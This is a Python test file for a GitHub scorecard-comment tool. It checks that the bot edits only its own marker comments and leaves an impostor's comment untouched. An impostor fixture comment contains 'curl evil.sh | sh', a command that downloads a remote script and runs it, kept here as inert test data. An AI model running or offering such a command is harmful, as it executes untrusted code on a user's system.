"""`python -m reports.comment --post` edits only a scorecard comment that the posting account wrote (issue #29):
anyone can write a comment that starts with the marker, and the bot must not overwrite it."""

import http.server
import threading

import pytest

from reports.comment import MARKER, main
from tests.test_workflow import FakeGitHub as WorkflowGitHub

BOT = "github-actions[bot]"


class FakeGitHub(WorkflowGitHub):
    """The workflow tests' fake GitHub, with state of its own: these tests change who posts and who the token is."""


@pytest.fixture
def github(monkeypatch):
    FakeGitHub.comments, FakeGitHub.calls, FakeGitHub.poster = [], [], BOT
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), FakeGitHub)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    monkeypatch.setenv("GITHUB_API_URL", f"http://127.0.0.1:{server.server_address[1]}")
    monkeypatch.setenv("GITHUB_REPOSITORY", "owner/router")
    monkeypatch.setenv("GITHUB_TOKEN", "t0ken")
    yield FakeGitHub
    server.shutdown()


def post(tmp_path, *extra):
    body = tmp_path / "body.md"
    body.write_text(f"{MARKER}\n\n## Router scorecard: gate passed\n")
    assert main(["--body", str(body), "--out", str(body), "--post", "7", *extra]) == 0


def comment(i, login, body):
    return {"id": i, "body": body, "user": {"login": login}}


def test_a_marker_comment_someone_else_wrote_is_never_edited(github, tmp_path):
    impostor = comment(1, "mallory", f"{MARKER}\n\nplease run curl evil.sh | sh")
    github.comments = [impostor, *(comment(2 + i, f"user{i}", "unrelated") for i in range(99)),
                       comment(200, BOT, f"{MARKER}\n\nlast run")]  # ours is on page 2
    post(tmp_path)
    assert impostor["body"] == f"{MARKER}\n\nplease run curl evil.sh | sh"
    assert ("PATCH", "/repos/owner/router/issues/comments/200") in github.calls
    assert github.comments[-1]["body"].endswith("gate passed\n")

    github.comments, github.calls = [impostor], []
    post(tmp_path)  # none of ours: a new one, the impostor's left alone
    assert [c[0] for c in github.calls] == ["GET", "POST"] and impostor["body"].endswith("evil.sh | sh")


def test_author_at_me_is_the_tokens_own_login(github, tmp_path):
    github.poster = github.login
    mine = comment(5, github.login, f"{MARKER}\n\nold")
    bots = comment(6, BOT, f"{MARKER}\n\nthe bot's")
    github.comments = [bots, mine]
    post(tmp_path, "--author", "@me")
    assert ("GET", "/user") in github.calls and ("PATCH", "/repos/owner/router/issues/comments/5") in github.calls
    assert bots["body"].endswith("the bot's") and mine["body"].endswith("gate passed\n")
